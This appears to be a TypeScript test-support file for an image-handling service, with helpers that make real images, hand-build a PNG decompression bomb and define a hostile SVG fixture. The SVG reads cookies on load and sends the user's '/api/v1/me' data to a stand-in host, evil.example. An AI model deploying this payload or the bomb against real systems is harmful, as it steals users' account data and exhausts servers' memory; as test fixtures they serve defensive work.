// Test support: real images made with sharp, a decompression bomb made by hand, and hostile look-alikes.
import { deflateSync } from "node:zlib";
import sharp from "sharp";

export async function makeImage(
  format: "png" | "jpeg" | "gif" | "webp" | "avif",
  width: number,
  height: number,
  color = "#2a7",
): Promise<Uint8Array> {
  const buf = await sharp({ create: { width, height, channels: 3, background: color } })
    [format]()
    .toBuffer();
  return new Uint8Array(buf);
}

function crc32(bytes: Uint8Array): number {
  let c = 0xffffffff;
  for (const b of bytes) {
    c ^= b;
    for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  }
  return (c ^ 0xffffffff) >>> 0;
}

function chunk(type: string, data: Uint8Array): Uint8Array {
  const out = new Uint8Array(12 + data.length);
  const view = new DataView(out.buffer);
  view.setUint32(0, data.length);
  out.set(new TextEncoder().encode(type), 4);
  out.set(data, 8);
  view.setUint32(8 + data.length, crc32(out.subarray(4, 8 + data.length)));
  return out;
}

/**
 * A valid PNG of width × height black 1-bit pixels: a few kilobytes on the wire, width × height × 4
 * bytes once decoded to RGBA (10,000 × 10,000 → 400 MB).
 */
export function bombPng(width: number, height: number): Uint8Array {
  const header = new Uint8Array(13);
  const view = new DataView(header.buffer);
  view.setUint32(0, width);
  view.setUint32(4, height);
  header.set([1, 0, 0, 0, 0], 8); // 1 bit per pixel, greyscale
  const rows = new Uint8Array(height * (1 + Math.ceil(width / 8)));
  const parts = [
    new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk("IHDR", header),
    chunk("IDAT", new Uint8Array(deflateSync(rows, { level: 9 }))),
    chunk("IEND", new Uint8Array(0)),
  ];
  const out = new Uint8Array(parts.reduce((n, p) => n + p.length, 0));
  let at = 0;
  for (const p of parts) {
    out.set(p, at);
    at += p.length;
  }
  return out;
}

export const SCRIPTED_SVG = `<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" width="400" height="300" onload="alert(document.cookie)">
<script>fetch('/api/v1/me').then(r => r.text()).then(t => navigator.sendBeacon('https://evil.example', t))</script>
<rect width="400" height="300" fill="red"/></svg>`;
